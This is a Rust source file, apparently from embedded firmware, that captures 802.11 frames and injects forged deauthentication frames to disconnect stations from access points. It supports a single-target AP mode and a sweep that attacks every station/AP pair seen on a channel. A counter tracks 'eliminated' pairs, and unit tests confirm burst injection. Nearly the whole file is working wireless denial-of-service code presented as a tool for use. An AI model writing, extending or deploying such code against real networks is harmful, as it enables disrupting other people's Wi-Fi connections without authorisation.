/// Capture-to-injection pipeline.
///
/// The radio driver invokes [`CapturePipeline::on_frame`] for every frame
/// it captures, from its own context (a driver task or ISR), concurrently
/// with the control loop. The pipeline is the only thing that context
/// touches, so it is `Sync` and lives in a `static` on the device.
///
/// The control loop hands the pipeline a [`CaptureSession`] in
/// [`activate`](CapturePipeline::activate) and takes it back in
/// [`deactivate`](CapturePipeline::deactivate). A session is immutable
/// while live; nothing the callback reads changes under it.
///
/// Counting policy: one increment per distinct (station, AP) pair whose
/// first burst had at least one frame accepted by the transmitter. Repeat
/// sightings of a pair are still attacked but not counted again.
use core::cell::RefCell;
use core::sync::atomic::{AtomicBool, AtomicU32, Ordering};

use critical_section::Mutex;
use heapless::Vec;

use crate::defaults::MAX_TRACKED_PAIRS;
use crate::frame::{build_deauth, DeauthFrame, FrameKind, MacAddr, MacHeader};
use crate::radio::{CaptureFilter, Transmit};

/// What the session does with a captured frame.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionKind {
    /// Attack the stations of one AP. The template already carries the AP
    /// as sender and BSSID; only the station is filled in per sighting.
    SingleTarget { template: DeauthFrame },
    /// Attack every (station, AP) pair seen on the current channel.
    BroadcastSweep { reason: u16 },
}

/// Everything the capture callback needs, fixed for the life of an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CaptureSession {
    pub kind: SessionKind,
    pub filter: CaptureFilter,
    /// Frames sent per sighting, >= 1.
    pub burst: u8,
}

/// A station and the AP it is associated with.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct StationPair {
    pub station: MacAddr,
    pub ap: MacAddr,
}

impl CaptureSession {
    pub fn single(template: DeauthFrame, burst: u8) -> Self {
        Self {
            kind: SessionKind::SingleTarget { template },
            filter: CaptureFilter::MGMT_AND_DATA,
            burst: burst.max(1),
        }
    }

    pub fn sweep(reason: u16, burst: u8) -> Self {
        Self {
            kind: SessionKind::BroadcastSweep { reason },
            filter: CaptureFilter::MGMT_AND_DATA,
            burst: burst.max(1),
        }
    }

    fn accepts(&self, kind: FrameKind) -> bool {
        match kind {
            FrameKind::Management => self.filter.management,
            FrameKind::Data => self.filter.data,
            FrameKind::Control | FrameKind::Extension => false,
        }
    }

    /// Decide what, if anything, to inject in response to `header`.
    pub fn injection_for(&self, header: &MacHeader) -> Option<(DeauthFrame, StationPair)> {
        if !self.accepts(header.kind()) {
            return None;
        }
        match self.kind {
            SessionKind::SingleTarget { template } => {
                // Traffic addressed to the target AP: the transmitter is one
                // of its stations.
                let ap = template.bssid();
                let station = header.addr2;
                if header.addr1 != ap || station == ap || station.is_multicast() {
                    return None;
                }
                Some((template.with_station(station), StationPair { station, ap }))
            }
            SessionKind::BroadcastSweep { reason } => {
                // Receiver == BSSID means station-to-AP traffic; the AP is
                // the receiver and the station the transmitter.
                let ap = header.addr1;
                let station = header.addr2;
                if ap != header.addr3 || ap.is_multicast() || station.is_multicast() || station == ap {
                    return None;
                }
                Some((build_deauth(reason, station, ap, ap), StationPair { station, ap }))
            }
        }
    }
}

/// Result of handling one captured frame.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CaptureOutcome {
    /// No session is live; the frame arrived during or after deactivation.
    Inactive,
    /// Too short, filtered out, or not station/AP traffic we act on.
    Ignored,
    /// A burst went out; `counted` when the pair was new.
    Injected { pair: StationPair, sent: u8, counted: bool },
    /// Every frame of the burst was refused by the transmitter.
    TransmitFailed,
}

struct CaptureState {
    session: Option<CaptureSession>,
    pairs: Vec<StationPair, MAX_TRACKED_PAIRS>,
}

impl CaptureState {
    const fn new() -> Self {
        Self {
            session: None,
            pairs: Vec::new(),
        }
    }

    /// Returns true when `pair` was not yet known and was recorded.
    fn remember(&mut self, pair: StationPair) -> bool {
        if self.pairs.contains(&pair) {
            return false;
        }
        self.pairs.push(pair).is_ok()
    }
}

/// Decrements the in-flight count when a callback invocation ends, on
/// every return path.
struct InFlight<'a>(&'a AtomicU32);

impl<'a> InFlight<'a> {
    fn enter(counter: &'a AtomicU32) -> Self {
        counter.fetch_add(1, Ordering::SeqCst);
        Self(counter)
    }
}

impl Drop for InFlight<'_> {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::SeqCst);
    }
}

pub struct CapturePipeline {
    live: AtomicBool,
    in_flight: AtomicU32,
    eliminated: AtomicU32,
    tx_errors: AtomicU32,
    state: Mutex<RefCell<CaptureState>>,
}

impl CapturePipeline {
    pub const fn new() -> Self {
        Self {
            live: AtomicBool::new(false),
            in_flight: AtomicU32::new(0),
            eliminated: AtomicU32::new(0),
            tx_errors: AtomicU32::new(0),
            state: Mutex::new(RefCell::new(CaptureState::new())),
        }
    }

    /// Install `session` and start acting on frames. Counters and the
    /// pair table start from zero.
    pub fn activate(&self, session: CaptureSession) {
        critical_section::with(|cs| {
            let mut state = self.state.borrow_ref_mut(cs);
            state.session = Some(session);
            state.pairs.clear();
        });
        self.eliminated.store(0, Ordering::SeqCst);
        self.tx_errors.store(0, Ordering::SeqCst);
        self.live.store(true, Ordering::SeqCst);
    }

    /// Stop acting on frames. Blocks until every callback invocation that
    /// saw the pipeline live has finished, so once this returns no further
    /// injection or count happens. Safe to call when never activated.
    ///
    /// Counters are left as they are; see [`reset_counters`](Self::reset_counters).
    pub fn deactivate(&self) {
        self.live.store(false, Ordering::SeqCst);
        while self.in_flight.load(Ordering::SeqCst) != 0 {
            core::hint::spin_loop();
        }
        critical_section::with(|cs| {
            let mut state = self.state.borrow_ref_mut(cs);
            state.session = None;
            state.pairs.clear();
        });
    }

    pub fn reset_counters(&self) {
        self.eliminated.store(0, Ordering::SeqCst);
        self.tx_errors.store(0, Ordering::SeqCst);
    }

    pub fn is_active(&self) -> bool {
        self.live.load(Ordering::SeqCst)
    }

    pub fn session(&self) -> Option<CaptureSession> {
        critical_section::with(|cs| self.state.borrow_ref(cs).session)
    }

    /// Distinct (station, AP) pairs attacked since activation.
    pub fn eliminated(&self) -> u32 {
        self.eliminated.load(Ordering::SeqCst)
    }

    /// Individual frames the transmitter refused since activation.
    pub fn tx_errors(&self) -> u32 {
        self.tx_errors.load(Ordering::Relaxed)
    }

    /// Capture callback body. Called by the radio driver for every
    /// captured frame; `raw` starts at the 802.11 frame control field.
    ///
    /// Safe to call from ISR context: no allocation, no logging, and the
    /// critical sections only copy a session or push into a fixed table.
    pub fn on_frame<T: Transmit + ?Sized>(&self, raw: &[u8], tx: &T) -> CaptureOutcome {
        let _guard = InFlight::enter(&self.in_flight);
        if !self.live.load(Ordering::SeqCst) {
            return CaptureOutcome::Inactive;
        }

        let Some(session) = critical_section::with(|cs| self.state.borrow_ref(cs).session) else {
            return CaptureOutcome::Inactive;
        };
        let Some(captured) = MacHeader::parse(raw) else {
            return CaptureOutcome::Ignored;
        };
        let Some((frame, pair)) = session.injection_for(&captured.header) else {
            return CaptureOutcome::Ignored;
        };

        let bytes = frame.encode();
        let mut sent = 0u8;
        for _ in 0..session.burst {
            match tx.transmit_raw(&bytes) {
                Ok(()) => sent += 1,
                Err(_) => {
                    self.tx_errors.fetch_add(1, Ordering::Relaxed);
                }
            }
        }
        if sent == 0 {
            return CaptureOutcome::TransmitFailed;
        }

        let counted = critical_section::with(|cs| self.state.borrow_ref_mut(cs).remember(pair));
        if counted {
            self.eliminated.fetch_add(1, Ordering::SeqCst);
        }
        CaptureOutcome::Injected { pair, sent, counted }
    }
}

impl Default for CapturePipeline {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frame::DEAUTH_FRAME_LEN;
    use crate::testing::{data_frame, RecordingTx, AP_A, AP_B, STA_1, STA_2};

    fn single_session(burst: u8) -> CaptureSession {
        CaptureSession::single(build_deauth(7, MacAddr::BROADCAST, AP_A, AP_A), burst)
    }

    #[test]
    fn inactive_pipeline_ignores_frames() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::new();
        let outcome = pipeline.on_frame(&data_frame(AP_A, STA_1, AP_A), &tx);
        assert_eq!(outcome, CaptureOutcome::Inactive);
        assert_eq!(tx.count(), 0);
    }

    #[test]
    fn deactivate_without_activate_is_noop() {
        let pipeline = CapturePipeline::new();
        pipeline.deactivate();
        assert!(!pipeline.is_active());
        assert!(pipeline.session().is_none());
    }

    #[test]
    fn single_target_injects_burst_at_station() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::new();
        pipeline.activate(single_session(3));

        let outcome = pipeline.on_frame(&data_frame(AP_A, STA_1, AP_A), &tx);
        assert_eq!(
            outcome,
            CaptureOutcome::Injected {
                pair: StationPair { station: STA_1, ap: AP_A },
                sent: 3,
                counted: true,
            }
        );
        let frames = tx.frames();
        assert_eq!(frames.len(), 3);
        let expected = build_deauth(7, STA_1, AP_A, AP_A).encode();
        for frame in &frames {
            assert_eq!(frame.len(), DEAUTH_FRAME_LEN);
            assert_eq!(frame.as_slice(), &expected[..]);
        }
        assert_eq!(pipeline.eliminated(), 1);
    }

    #[test]
    fn single_target_ignores_other_aps() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::new();
        pipeline.activate(single_session(1));

        let outcome = pipeline.on_frame(&data_frame(AP_B, STA_1, AP_B), &tx);
        assert_eq!(outcome, CaptureOutcome::Ignored);
        // Frames sent by the AP itself reveal no station
        let outcome = pipeline.on_frame(&data_frame(AP_A, AP_A, AP_A), &tx);
        assert_eq!(outcome, CaptureOutcome::Ignored);
        assert_eq!(tx.count(), 0);
    }

    #[test]
    fn repeat_sightings_are_attacked_but_counted_once() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::new();
        pipeline.activate(single_session(1));

        pipeline.on_frame(&data_frame(AP_A, STA_1, AP_A), &tx);
        let again = pipeline.on_frame(&data_frame(AP_A, STA_1, AP_A), &tx);
        pipeline.on_frame(&data_frame(AP_A, STA_2, AP_A), &tx);

        assert!(matches!(again, CaptureOutcome::Injected { counted: false, .. }));
        assert_eq!(tx.count(), 3);
        assert_eq!(pipeline.eliminated(), 2);
    }

    #[test]
    fn sweep_derives_pair_from_frame() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::new();
        pipeline.activate(CaptureSession::sweep(2, 1));

        let outcome = pipeline.on_frame(&data_frame(AP_B, STA_2, AP_B), &tx);
        assert!(matches!(outcome, CaptureOutcome::Injected { counted: true, .. }));
        assert_eq!(tx.frames()[0].as_slice(), &build_deauth(2, STA_2, AP_B, AP_B).encode()[..]);
    }

    #[test]
    fn sweep_skips_broadcast_and_from_ds_traffic() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::new();
        pipeline.activate(CaptureSession::sweep(1, 1));

        // Beacon-like: receiver is broadcast
        let beacon = data_frame(MacAddr::BROADCAST, AP_A, MacAddr::BROADCAST);
        assert_eq!(pipeline.on_frame(&beacon, &tx), CaptureOutcome::Ignored);
        // AP to station: receiver differs from BSSID
        let downlink = data_frame(STA_1, AP_A, AP_A);
        assert_eq!(pipeline.on_frame(&downlink, &tx), CaptureOutcome::Ignored);
        assert_eq!(tx.count(), 0);
    }

    #[test]
    fn control_and_short_frames_ignored() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::new();
        pipeline.activate(CaptureSession::sweep(1, 1));

        let mut rts = data_frame(AP_A, STA_1, AP_A);
        rts[0] = 0xB4; // control / RTS
        assert_eq!(pipeline.on_frame(&rts, &tx), CaptureOutcome::Ignored);
        assert_eq!(pipeline.on_frame(&[0xD4, 0x00, 0x00, 0x00], &tx), CaptureOutcome::Ignored);
    }

    #[test]
    fn filter_excludes_data_when_disabled() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::new();
        let mut session = CaptureSession::sweep(1, 1);
        session.filter.data = false;
        pipeline.activate(session);

        assert_eq!(pipeline.on_frame(&data_frame(AP_A, STA_1, AP_A), &tx), CaptureOutcome::Ignored);

        let mut assoc = data_frame(AP_A, STA_1, AP_A);
        assoc[0] = 0x00; // management / association request
        assert!(matches!(pipeline.on_frame(&assoc, &tx), CaptureOutcome::Injected { .. }));
    }

    #[test]
    fn failed_transmit_is_not_counted() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::failing();
        pipeline.activate(single_session(4));

        let outcome = pipeline.on_frame(&data_frame(AP_A, STA_1, AP_A), &tx);
        assert_eq!(outcome, CaptureOutcome::TransmitFailed);
        assert_eq!(pipeline.eliminated(), 0);
        assert_eq!(pipeline.tx_errors(), 4);
    }

    #[test]
    fn deactivate_stops_injection_and_keeps_counters_until_reset() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::new();
        pipeline.activate(single_session(1));
        pipeline.on_frame(&data_frame(AP_A, STA_1, AP_A), &tx);

        pipeline.deactivate();
        assert!(!pipeline.is_active());
        assert!(pipeline.session().is_none());
        assert_eq!(pipeline.on_frame(&data_frame(AP_A, STA_2, AP_A), &tx), CaptureOutcome::Inactive);
        assert_eq!(tx.count(), 1);
        assert_eq!(pipeline.eliminated(), 1);

        pipeline.reset_counters();
        assert_eq!(pipeline.eliminated(), 0);
    }

    #[test]
    fn reactivation_forgets_old_pairs() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::new();
        pipeline.activate(single_session(1));
        pipeline.on_frame(&data_frame(AP_A, STA_1, AP_A), &tx);
        pipeline.deactivate();

        pipeline.activate(single_session(1));
        assert_eq!(pipeline.eliminated(), 0);
        let outcome = pipeline.on_frame(&data_frame(AP_A, STA_1, AP_A), &tx);
        assert!(matches!(outcome, CaptureOutcome::Injected { counted: true, .. }));
    }

    #[test]
    fn pair_table_saturates_without_double_counting() {
        let pipeline = CapturePipeline::new();
        let tx = RecordingTx::new();
        pipeline.activate(CaptureSession::sweep(1, 1));

        for i in 0..(MAX_TRACKED_PAIRS as u16 + 5) {
            let [hi, lo] = i.to_be_bytes();
            let station = MacAddr([0x02, 0, 0, 0, hi, lo]);
            pipeline.on_frame(&data_frame(AP_A, station, AP_A), &tx);
        }
        assert_eq!(pipeline.eliminated(), MAX_TRACKED_PAIRS as u32);
        assert_eq!(tx.count(), MAX_TRACKED_PAIRS + 5);
    }
}
